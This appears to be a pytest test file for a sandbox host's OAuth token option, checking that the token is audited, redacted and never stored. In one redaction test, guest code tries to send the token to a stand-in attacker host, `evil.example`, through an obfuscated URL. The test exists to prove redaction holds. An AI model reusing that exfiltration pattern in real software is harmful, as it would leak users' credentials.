"""`--oauth-token`: a connection's access token, for one run: decided, audited and hidden as a secret is."""

from __future__ import annotations

import base64
import io
import json
import sys

import pytest

TOKEN = "ya29.a0AfH6SMBx-_token/+=="
OAUTH = {
    "oauth": {
        "type": "authorization_code",
        "authorizationUrlTemplate": "https://auth.acme.example/authorize",
        "tokenUrlTemplate": "https://auth.acme.example/token",
        "scopes": ["read"],
        "client": {"credentialKey": "acme"},
    },
    "settingsSchema": {"type": "object", "properties": {}},
}
GRANTED = {"http": ["https://api.acme.example/*"], "entities": {"Invoice": ["read", "write"]}}
ASK = "try { return OAuth.accessToken(); } catch (e: any) { return [e.name, e.code, e.message]; }"


@pytest.fixture
def acme(guest):
    return lambda body, **more: guest(body, permissions=GRANTED, connection=OAUTH, **more)


def test_the_guest_gets_it(invoke, acme, provider):
    body = 'return Http.get("https://api.acme.example/x", { auth: { bearer: OAuth.accessToken() } }).status;'
    answers = provider.answers("api.acme.example")
    report = invoke(acme(body), "POST /run", "--oauth-token", TOKEN, *answers)
    assert report["response"]["body"] == 200
    assert provider.requests[0][2]["authorization"] == f"Bearer {TOKEN}"
    asked = report["calls"][0]
    assert (asked["capability"], asked["action"], asked["resource"]) == ("oauth", "accessToken", "connection")
    assert (asked["decision"], asked["rule"], asked["outcome"]) == ("allow", "always", "ok")


@pytest.mark.parametrize("oauth", ["true", "{ minTtlSeconds: 60 }"])
def test_a_request_is_sent_with_it_without_the_guest_seeing_it(invoke, acme, provider, oauth):
    body = f'return Http.get("https://api.acme.example/x", {{ auth: {{ oauth: {oauth} }} }}).status;'
    answers = provider.answers("api.acme.example")
    assert invoke(acme(body), "POST /run", "--oauth-token", TOKEN, *answers)["ok"]
    assert provider.requests[0][2]["authorization"] == f"Bearer {TOKEN}"


def test_without_it_the_connection_has_none(invoke, acme):
    name, code, message = invoke(acme(ASK), "POST /run")["response"]["body"]
    assert (name, code) == ("NotAvailable", "not_available") and "connect it to its provider" in message


def test_a_manifest_without_oauth_has_none_either(invoke, guest):
    assert invoke(guest(ASK), "POST /run")["response"]["body"][0] == "NotAvailable"


def test_it_is_shown_nowhere_even_where_the_guest_did_not_ask_for_it(backfill, acme, state):
    encoded = base64.b64encode(f"x:{TOKEN}".encode()).decode()
    body = (
        "Log.info(request.body.t, { data: request.body.b });"
        'try { Http.get(["https:/", "evil.example", ""].join("/") + encodeURIComponent(request.body.t)); } catch {}'
        "throw new Error(JSON.stringify(request.body));"
    )
    given = json.dumps({"t": TOKEN, "b": encoded})
    ran = backfill(
        "invoke", acme(body), "POST /run", "--oauth-token", TOKEN, "--body", given, "--state", state, "--json"
    )
    audit = backfill("audit", "export", "--state", state)
    for text in (ran.out + ran.err, audit.out):
        assert TOKEN not in text and encoded[4:-4] not in text
    assert "[secret:oauth_token]" in ran.out and '"oauth"' not in ran.report["error"]["message"]


def test_without_redaction_it_would_be_shown(invoke, acme, monkeypatch):
    monkeypatch.setattr("sandbox_host.redaction.Redactor.learn", lambda self, name, value: None)
    report = invoke(acme("Log.info(OAuth.accessToken());"), "POST /run", "--oauth-token", TOKEN)
    assert report["logs"][0]["message"] == TOKEN


def test_it_is_on_record_before_the_guest_has_it(backfill, acme, state):
    backfill("invoke", acme(ASK), "POST /run", "--oauth-token", TOKEN, "--state", state, "--json")
    lines = map(json.loads, backfill("audit", "export", "--state", state).out.splitlines())
    [decided] = [one for one in lines if one.get("capability") == "oauth"]
    assert (decided["action"], decided["resource"], decided["decision"]) == (
        "accessToken",
        "connection",
        "allow",
    )


def test_it_comes_from_a_file_or_from_standard_input(invoke, acme, tmp_path, monkeypatch):
    (tmp_path / "token").write_text(f"{TOKEN}\n")
    length = "return OAuth.accessToken().length;"
    from_file = invoke(acme(length), "POST /run", "--oauth-token", f"@{tmp_path / 'token'}")
    monkeypatch.setattr(sys, "stdin", io.StringIO(f"{TOKEN}\nmore"))
    from_input = invoke(acme(length), "POST /run", "--oauth-token", "-")
    assert from_file["response"]["body"] == from_input["response"]["body"] == len(TOKEN)


def test_a_token_that_is_none_is_never_quoted(backfill, acme):
    ran = backfill("invoke", acme(ASK), "POST /run", "--oauth-token", "secret token", "--json")
    assert ran.code == 2 and "secret token" not in ran.out + ran.err


def test_nothing_of_it_is_stored(backfill, acme, state):
    backfill(
        "invoke",
        acme("Log.info(OAuth.accessToken());"),
        "POST /run",
        "--oauth-token",
        TOKEN,
        "--state",
        state,
    )
    kept = b"".join(path.read_bytes() for path in state.rglob("*") if path.is_file())
    assert TOKEN.encode() not in kept


def test_a_hook_that_a_write_sets_off_has_no_connection_and_no_token(invoke, project):
    hook = "export default async () => { const r: any = {}; try { r.description = OAuth.accessToken(); } "
    hook += "catch (e: any) { r.description = e.name; } return r; };\n"
    run = 'export const POST = api(async () => Entity.create("Item", '
    run += '{ name: "i", item_type: "service" }).description);\n'
    path = project(
        {"src/api/run.ts": run, "src/hooks/item/before-save.ts": hook},
        permissions={"entities": {"Item": ["read", "write"]}},
        connection=OAUTH,
    )
    report = invoke(path, "POST /run", "--oauth-token", TOKEN)
    assert report["ok"], report["error"]
    assert report["response"]["body"] == "NotAvailable"
